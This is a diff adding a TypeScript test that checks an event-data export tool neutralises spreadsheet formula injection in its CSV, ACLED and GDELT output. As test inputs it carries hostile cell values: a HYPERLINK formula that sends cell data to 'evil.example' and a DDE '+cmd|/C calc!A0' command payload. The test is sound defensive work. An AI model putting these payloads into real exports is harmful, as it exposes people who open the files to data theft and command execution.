@@ -99,6 +99,32 @@ test('CSV of events: a header, one row per event, and filters apply', async () =
   assert.equal(rejected.review_note, 'not an attack,\nsee "photo"');
 });
 
+test('cells that a spreadsheet would run as a formula are defused in every delimited format; numbers stay numbers', async () => {
+  const store = openSqliteStore(':memory:');
+  const { article, analysis } = syntheticArticle({ seed: 1, events: 3, publisher: '=HYPERLINK("https://evil.example/?"&A1,"x")' });
+  await store.saveAnalysis({ ...article, title: '+cmd|/C calc!A0', url: 'https://paper.example/-1' }, analysis);
+  const first = (await store.listEvents({}, { limit: 1 })).items[0]!;
+  await store.review(first.key, { action: 'reject', note: '@SUM(1+1)*cmd' }, { kind: 'cli', id: 'u', name: '-2+3' });
+  const out = async (format: ExportFormat) => {
+    let text = '';
+    for await (const line of exportLines(format, store.streamEvents({}))) text += line;
+    return text;
+  };
+  const csv: Record<string, string>[] = parse(await out('csv'), { columns: true });
+  const reviewed = csv.find((r) => r.review_status === 'rejected')!;
+  assert.deepEqual([reviewed.source, reviewed.title, reviewed.review_note, reviewed.reviewer], [
+    `'=HYPERLINK("https://evil.example/?"&A1,"x")`, "'+cmd|/C calc!A0", "'@SUM(1+1)*cmd", "'-2+3",
+  ]);
+  assert.ok(csv.some((r) => Number(r.goldstein) < 0), 'a negative Goldstein value is exported as a number');
+  assert.ok(csv.every((r) => !/^'/.test(r.goldstein!) && !/^'/.test(r.longitude!)));
+  const acled: Record<string, string>[] = parse(await out('acled'), { columns: true });
+  assert.ok(acled.every((r) => Object.values(r).every((v) => !/^[=+@]/.test(v) && !/^-(?![\d.])/.test(v))), 'no ACLED cell starts a formula');
+  for (const format of ['gdelt', 'gdelt-mentions'] as const) {
+    const cells = (await out(format)).trimEnd().split('\n').flatMap((l) => l.split('\t'));
+    assert.ok(cells.every((v) => !/^[=+@]/.test(v) && !/^-(?![\d.]+$)/.test(v)), `no ${format} cell starts a formula`);
+  }
+});
+
 test('JSONL: one event a line in Sumber\'s own schema, complete beyond the export batch size', async () => {
   const store = openSqliteStore(':memory:');
   await store.saveAnalysis(...(Object.values(syntheticArticle({ seed: 9, events: 2100 })) as [any, any]));
